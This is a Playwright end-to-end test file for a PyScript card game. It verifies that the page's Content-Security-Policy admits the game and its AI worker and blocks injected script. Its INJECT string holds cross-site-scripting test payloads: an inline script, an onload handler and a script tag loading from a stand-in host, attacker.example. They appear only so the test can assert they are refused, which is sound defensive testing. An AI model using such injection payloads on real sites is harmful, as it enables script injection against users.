"""The Content-Security-Policy of the page: it allows what Pyodide and PyScript
need and nothing more (the policy and the reason for each directive are in
web/README.md, section "Content-Security-Policy").

The page boots, and the computers think in the PyScript worker (level ``normal``
runs only there), with no violation of the policy; markup injected into the page
cannot run script, nor load one from elsewhere. Every other e2e test runs under the
same policy too: Chromium reports a violation as a console error, which the guard
turns into a failure.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from playwright.sync_api import Page

from e2e.guard import PageGuard
from e2e.table_steps import play_to_mid_trick

#: Records every violation the page reports, before any of the page's own scripts run.
RECORD_VIOLATIONS = """
window.__violations = [];
document.addEventListener('securitypolicyviolation', e => window.__violations.push(
  {directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample}));
"""

#: What an attacker's string would do if it ever reached the page as HTML.
INJECT = """() => {
  const s = document.createElement('script');
  s.textContent = 'window.__pwned = "inline script"';
  document.body.append(s);
  const box = document.createElement('div');
  box.innerHTML = '<img src="./icons/icon-192.png" onload="window.__pwned = \\'handler\\'">';
  document.body.append(box);
  const far = document.createElement('script');
  far.src = 'https://attacker.example/x.js';
  document.body.append(far);
}"""


def violations(page: Page) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = page.evaluate("window.__violations")
    return found


def test_the_page_and_its_ai_worker_run_under_the_policy_and_injected_script_does_not(
    page: Page, open_table: Callable[[str], Page], guard: PageGuard
) -> None:
    page.add_init_script(RECORD_VIOLATIONS)
    open_table("?seed=5&level=normal&anim=instant")
    policy = page.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content")
    assert policy is not None and "script-src 'self'" in policy
    play_to_mid_trick(page)  # the computers' bids and cards came from the worker
    assert violations(page) == []

    page.evaluate(INJECT)
    page.wait_for_function("window.__violations.length >= 3")
    assert page.evaluate("window.__pwned") is None
    seen = {(v["directive"], v["blocked"]) for v in violations(page)}
    assert ("script-src-elem", "inline") in seen
    assert ("script-src-attr", "inline") in seen
    assert ("script-src-elem", "https://attacker.example/x.js") in seen
    # Chromium reports each refusal on the console too: those three are expected here.
    assert len(guard.console_errors) == 3
    assert all("Content Security Policy" in e for e in guard.console_errors)
    guard.console_errors.clear()
    # The guard hears the far script's attempt, which the policy refused before any
    # request was made: that one, and nothing else, went for another host.
    assert guard.outside_requests == ["https://attacker.example/x.js"]
    guard.outside_requests.clear()
